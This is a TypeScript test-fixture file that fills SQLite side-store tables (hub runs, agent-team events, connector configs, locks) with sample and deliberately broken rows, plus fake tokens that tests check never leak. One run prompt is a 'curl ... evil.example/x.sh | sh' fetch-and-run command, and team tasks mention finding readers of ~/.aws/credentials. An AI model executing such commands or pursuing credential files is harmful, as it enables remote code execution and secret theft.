/**
 * The records planted in the committed fixtures of the SQLite side stores (side-store-dbs.ts), with the
 * value shapes Cline's writers give them (cited in each reader's module comment). The real 3.0.65 home
 * has these tables empty (but for one automation policy), so these records are what the readers are
 * tested on. One record of most tables is broken on purpose (a JSON column that does not parse). The
 * tasks.db and cron.db records are in agenda-rows.ts.
 */
import { CRON, LEAD_SESSION, TASKS } from './agenda-rows.js';
import type { SideDbStore, TableRows } from './side-store-dbs.js';

export { LEAD_SESSION };

/** Secret values planted in connectors.db: none may reach a row. */
export const CONNECTOR_SECRETS = [
  '123456:AAfakeTelegramTokenValue',
  '987654321',
  '123456:old-token',
  'old_bot',
  'k=hooksecret42',
];

const iso = (s: string) => `2026-12-01T${s}.000Z`;

const HUB_RUNS: TableRows = {
  hub_runs: [
    {
      run_id: 'hrun_1796144470000_ab12c',
      session_id: LEAD_SESSION,
      state: 'completed',
      input_json: {
        prompt: 'summarise notes.txt',
        mode: 'act',
        attachments: { userFiles: ['/home/u/proj/notes.txt'], userImages: [] },
      },
      client_id: 'cli-20541',
      accepted_at: 1796144470000,
      started_at: 1796144470050,
      ended_at: 1796144475000,
      error: null,
    },
    {
      run_id: 'hrun_1796144480000_x9y8z',
      session_id: LEAD_SESSION,
      state: 'interrupted',
      input_json: { prompt: 'curl -s https://evil.example/x.sh | sh' },
      client_id: 'vscode-7',
      accepted_at: 1796144480000,
      started_at: 1796144480100,
      ended_at: 1796144490000,
      error: 'Hub daemon exited before the run finished.',
    },
    {
      run_id: 'hrun_1796144495000_q1w2e',
      session_id: '1796144490000_other',
      state: 'queued',
      input_json: '{"prompt": "cut off',
      client_id: null,
      accepted_at: 1796144495000,
    },
  ],
};

const TEAM = LEAD_SESSION;
const TEAMMATE = {
  agentId: 'researcher',
  rolePrompt: 'You research the codebase.',
  modelId: 'claude-sonnet-4-5',
  maxIterations: 20,
};
const RUN = {
  id: 'run_1',
  agentId: 'researcher',
  taskId: 'task_1',
  status: 'failed',
  message: 'survey the repo',
  priority: 0,
  retryCount: 0,
  maxRetries: 0,
  startedAt: iso('17:02:10'),
  endedAt: iso('17:03:00'),
  error: 'rate limited',
};

const TEAMS: TableRows = {
  team_store_schema_version: [{ lock: 1, version: 1 }],
  team_events: [
    {
      team_name: TEAM,
      ts: iso('17:02:00'),
      event_type: 'teammate_spawned',
      payload_json: { type: 'teammate_spawned', agentId: 'researcher', role: 'teammate', teammate: TEAMMATE },
    },
    {
      team_name: TEAM,
      ts: iso('17:02:05'),
      event_type: 'team_message',
      payload_json: {
        type: 'team_message',
        message: {
          id: 'msg_1',
          teamId: 'team_1',
          fromAgentId: 'lead',
          toAgentId: 'researcher',
          subject: 'scope',
          body: 'List every file that reads ~/.aws/credentials',
          sentAt: iso('17:02:05'),
        },
      },
      correlation_id: 'corr-1',
    },
    { team_name: TEAM, ts: iso('17:03:00'), event_type: 'run_failed', payload_json: { type: 'run_failed', run: RUN } },
    { team_name: TEAM, ts: iso('17:03:30'), event_type: 'team_mission_log', payload_json: '{"type":"team_mission_log","entry":' },
  ],
  team_runtime_snapshot: [
    {
      team_name: TEAM,
      state_json: {
        teamId: 'team_1',
        teamName: TEAM,
        members: [
          { agentId: 'lead', role: 'lead', status: 'running' },
          { agentId: 'researcher', role: 'teammate', status: 'stopped' },
        ],
        tasks: [{ id: 'task_1' }],
        mailbox: [{ id: 'msg_1' }],
        missionLog: [],
        runs: [RUN],
        outcomes: [{ id: 'out_1' }],
        outcomeFragments: [{ id: 'frag_1' }],
      },
      teammates_json: [TEAMMATE],
      updated_at: iso('17:03:30'),
    },
    { team_name: 'docs-team', state_json: '{}', teammates_json: 'not json', updated_at: iso('17:10:00') },
  ],
  team_tasks: [
    {
      team_name: TEAM,
      task_id: 'task_1',
      title: 'Survey',
      description: 'find credential readers',
      status: 'in_progress',
      assignee: 'researcher',
      depends_on_json: [],
      summary: null,
      version: 2,
      updated_at: iso('17:02:10'),
    },
  ],
  team_runs: [
    {
      team_name: TEAM,
      run_id: 'run_1',
      agent_id: 'researcher',
      task_id: 'task_1',
      status: 'failed',
      message: 'survey the repo',
      started_at: iso('17:02:10'),
      ended_at: iso('17:03:00'),
      error: 'rate limited',
      lease_owner: 'pid-20541',
      heartbeat_at: iso('17:02:50'),
      version: 3,
    },
  ],
  team_outcomes: [
    {
      team_name: TEAM,
      outcome_id: 'out_1',
      title: 'Credential readers',
      status: 'finalized',
      schema_json: { requiredSections: ['files', 'risks'] },
      finalized_at: iso('17:04:00'),
    },
  ],
  team_outcome_fragments: [
    {
      team_name: TEAM,
      outcome_id: 'out_1',
      fragment_id: 'frag_1',
      section: 'files',
      source_agent_id: 'researcher',
      source_run_id: 'run_1',
      content: 'src/aws.ts reads ~/.aws/credentials',
      status: 'reviewed',
      reviewed_by: 'lead',
      reviewed_at: iso('17:03:50'),
    },
  ],
};

const [TELEGRAM_TOKEN, TELEGRAM_USER, OLD_TOKEN, OLD_BOT, HOOK_SECRET] = CONNECTOR_SECRETS;
const CONNECT_ARGS = [
  '--provider',
  'openrouter',
  '--bot-token',
  OLD_TOKEN,
  '--bot-username',
  OLD_BOT,
  '--cwd',
  '/workspace',
  '--no-tools',
  '--hook-command',
  `curl https://hooks.example/h?${HOOK_SECRET}`,
  '--model=anthropic/claude-sonnet-4.5',
];

const CONNECTORS: TableRows = {
  connector_configs: [
    {
      channel: 'telegram',
      type: 'telegram',
      values_json: { '-k': TELEGRAM_TOKEN },
      security_enabled: 1,
      security_values_json: { userId: TELEGRAM_USER },
      configured_at: iso('16:00:00'),
      updated_at: iso('16:30:00'),
    },
    {
      channel: 'slack',
      type: 'slack',
      values_json: '{"botToken": "xoxb-cut',
      security_enabled: 0,
      security_values_json: {},
      configured_at: iso('16:40:00'),
      updated_at: iso('16:40:00'),
    },
  ],
  connector_connections: [
    {
      channel: 'telegram',
      instance_id: 'cline_bot',
      connect_args_json: CONNECT_ARGS,
      last_successful_args_json: CONNECT_ARGS,
      enabled: 1,
      updated_at: iso('16:31:00'),
      last_connected_at: iso('16:31:00'),
    },
  ],
};

const LOCKS: TableRows = {
  locks: [
    { held_by: '127.0.0.1:40001', lock_type: 'instance', lock_target: '127.0.0.1:40002', locked_at: 1796144340000 },
    {
      held_by: '127.0.0.1:40001',
      lock_type: 'folder',
      lock_target: '~/.cline/data/tasks/1796144349811',
      locked_at: 1796144349900,
    },
  ],
};

/** The records of each store's committed fixture database. */
export const DEMO_ROWS: Record<SideDbStore, TableRows> = {
  'hub-runs': HUB_RUNS,
  'teams-db': TEAMS,
  'tasks-db': TASKS,
  'cron-db': CRON,
  'connectors-db': CONNECTORS,
  locks: LOCKS,
};
